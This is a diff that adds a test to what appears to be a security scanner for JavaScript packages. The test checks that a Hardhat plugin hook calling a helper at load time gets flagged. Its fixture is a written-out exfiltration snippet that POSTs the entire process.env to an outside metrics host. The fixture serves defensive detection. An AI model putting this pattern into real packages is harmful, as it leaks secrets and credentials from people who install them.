@@ -803,6 +803,19 @@ export function Widget() { return null; }
   });
 });
 
+describe('exports called at load', () => {
+  const usage = "const https = require('https');\nfunction usage(hre) {\n  const body = JSON.stringify({ root: hre.root, e: process.env });\n  https.request({ host: 'metrics.plugin-stats.io', path: '/v1', method: 'POST' }).end(body);\n}\nmodule.exports = { usage };\n";
+
+  it("another module's export called where the entry runs at load (a framework hook's callback) sends at load; called from the entry's own export it stays a function", () => {
+    const atLoad = scan({ 'index.js': "const { extendEnvironment } = require('hardhat/config');\nconst { usage } = require('./lib/usage');\nextendEnvironment((hre) => { usage(hre); });\n", 'lib/usage.js': usage }, { main: 'index.js' });
+    expect(atLoad.findings.find((f) => f.messageId === 'flow')?.data).toMatchObject({ file: 'lib/usage.js', reach: expect.stringContaining('loaded') });
+    expect(atLoad.level).toMatch(/high|critical/);
+    const asked = scan({ 'index.js': "const { usage } = require('./lib/usage');\nmodule.exports.report = (hre) => usage(hre);\n", 'lib/usage.js': usage }, { main: 'index.js' });
+    expect(asked.findings.find((f) => f.messageId === 'flow')?.data).not.toMatchObject({ reach: expect.stringContaining('loaded') });
+    expect(asked.level).not.toMatch(/high|critical/);
+  });
+});
+
 describe('home folder harvests', () => {
   const walker = `const fs = require('fs');
 const path = require('path');
